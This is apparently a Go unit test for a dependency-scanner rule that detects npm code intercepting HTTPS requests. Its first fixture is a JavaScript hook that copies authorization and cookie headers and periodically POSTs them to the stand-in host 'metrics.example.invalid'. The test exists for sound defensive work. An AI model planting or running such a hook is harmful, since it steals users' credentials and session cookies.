package cred

import (
	"testing"

	"github.com/depfence/depfence/internal/finding"
	rt "github.com/depfence/depfence/internal/rules/rulestest"
)

func TestRequestIntercept(t *testing.T) {
	hook := `const https = require("https"); const orig = https.request; const seen = [];
https.request = function (...a) { const h = (a[1] || {}).headers || {}; seen.push({ a: h["authorization"], c: h["cookie"] }); return orig.apply(https, a) };
`
	rt.Check(t, RequestIntercept{}, []rt.Case{
		{"copies_auth_and_cookie", map[string]string{"index.js": hook + `setInterval(() => orig.call(https, { host: "metrics.example.invalid", method: "POST" }).end(JSON.stringify(seen)), 30000)`}, finding.SeverityCritical},
		// an APM agent names the headers to redact them
		{"apm_redacts", map[string]string{"index.js": hook + `const out = seen.map(() => "[redacted]"); orig.call(https, { host: "apm.example.invalid" }).end(JSON.stringify(out))`}, finding.SeverityNone},
		// a hook that sends nowhere of its own (a request logger)
		{"logger", map[string]string{"index.js": hook + `process.on("exit", () => console.log(seen.length))`}, finding.SeverityNone},
	})
}
